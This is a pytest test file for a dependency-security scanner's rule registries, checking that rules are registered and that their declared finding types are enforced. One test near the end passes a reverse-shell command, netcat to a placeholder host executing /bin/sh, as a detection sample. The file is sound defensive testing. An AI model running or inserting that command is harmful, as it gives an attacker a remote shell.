"""The rule registries: complete, typed by the catalog, and enforced while findings are emitted."""

from __future__ import annotations

import pytest

from depshield.alerts.catalog import CATALOG
from depshield.analyzers.base import SIGNALS
from depshield.analyzers.javascript import JavaScriptAnalyzer
from depshield.analyzers.javascript import family as js_family
from depshield.analyzers.python import PythonAnalyzer
from depshield.analyzers.python import family as py_family
from depshield.analyzers.rule import Collector, Registry, Rule, UndeclaredFinding, registries
from depshield.analyzers.shell import analyze_shell
from depshield.analyzers.shell import family as shell_family

FAMILIES = {
    "python": py_family.load,
    "javascript": js_family.load,
    "shell": lambda: shell_family.RULES,
}


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_every_rule_in_the_order_is_registered(family: str) -> None:
    rules = FAMILIES[family]()
    assert rules.missing() == []
    assert [r.id for r in rules] == list(rules.order)
    assert all(r.id.startswith(f"{family}.") for r in rules)


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_declared_types_are_catalog_types_or_signals(family: str) -> None:
    for rule in FAMILIES[family]():
        unknown = rule.emits - set(CATALOG) - SIGNALS
        assert not unknown, f"{rule.id} declares {sorted(unknown)}"


def test_qualname_rules_name_calls_and_others_do_not() -> None:
    for rule in py_family.load():
        assert bool(rule.names) == (rule.reads == "qualname"), rule.id


def test_the_shell_type_set_is_what_its_rules_declare() -> None:
    # Python and JavaScript rules that analyse shell text declare shell_family.TYPES.
    assert shell_family.RULES.types() == shell_family.TYPES


def test_there_is_one_registry_per_family() -> None:
    for load in FAMILIES.values():
        load()
    assert set(registries()) == set(FAMILIES)


def _rule(emits: set[str], relays: bool = False, family: str = "python") -> Rule:
    return Rule("python.test", family, "module", lambda: None, frozenset(emits), relays=relays)


def test_a_type_outside_the_declaration_fails_loudly() -> None:
    out = Collector()
    with out.rule(_rule({"usesEval"})):
        out.check("usesEval")
        with pytest.raises(UndeclaredFinding, match="'python.test' emitted 'networkAccess'"):
            out.check("networkAccess")


def test_a_finding_outside_any_rule_fails_loudly() -> None:
    with pytest.raises(UndeclaredFinding, match="outside any rule"):
        Collector().check("usesEval")


def test_the_innermost_rule_is_the_one_checked() -> None:
    out = Collector()
    with out.rule(_rule({"usesEval"})):
        with out.rule(_rule({"networkAccess"})):
            out.check("networkAccess")
            with pytest.raises(UndeclaredFinding):
                out.check("usesEval")
        out.check("usesEval")


def test_a_relaying_rule_may_emit_any_type_of_its_family() -> None:
    out = Collector()
    with out.rule(_rule(set(), relays=True, family="javascript")):
        out.check("reverseShell")  # a JavaScript rule declares it
        with pytest.raises(UndeclaredFinding):
            out.check("installScripts")  # no JavaScript rule emits it


def test_a_registry_refuses_a_rule_missing_from_its_order_and_a_second_one() -> None:
    rules = Registry("test", ("test.one",))

    @rules.rule("test.one", reads="file", emits=())
    def one() -> None:
        """One."""

    with pytest.raises(ValueError, match="registered twice"):
        rules.rule("test.one", reads="file", emits=())(one)
    with pytest.raises(ValueError, match="missing from the test order"):
        rules.rule("test.two", reads="file", emits=())(one)
    assert rules["test.one"].doc == "One."


def test_an_undeclared_emission_in_a_real_rule_skips_the_file(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # python.frame declares debugAccess only: made to declare nothing, its emission must not
    # pass silently; the analyzer reports the file as not analysed (never a traceback).
    rules = py_family.load()
    frame = rules["python.frame"]
    monkeypatch.setitem(rules._rules, "python.frame", _replace_emits(frame, frozenset()))
    fa = PythonAnalyzer().analyze("pkg/mod.py", b"import sys\nf = sys._getframe()\nf.f_back\n")
    assert fa.skipped == "python analysis failed: UndeclaredFinding"


def test_javascript_and_shell_enforce_their_declarations(monkeypatch: pytest.MonkeyPatch) -> None:
    rules = js_family.load()
    monkeypatch.setitem(
        rules._rules, "javascript.troll-loops", _replace_emits(rules["javascript.troll-loops"])
    )
    fa = JavaScriptAnalyzer().analyze("index.js", b"while (true) {}\n")
    assert fa.skipped == "analysis stopped early: UndeclaredFinding"
    shell = shell_family.RULES
    monkeypatch.setitem(
        shell._rules, "shell.reverse-shell", _replace_emits(shell["shell.reverse-shell"])
    )
    with pytest.raises(UndeclaredFinding, match="shell.reverse-shell"):
        analyze_shell("nc evil.invalid 4444 -e /bin/sh\n", "run.sh")


def _replace_emits(rule: Rule, emits: frozenset[str] = frozenset()) -> Rule:
    from dataclasses import replace

    return replace(rule, emits=emits)
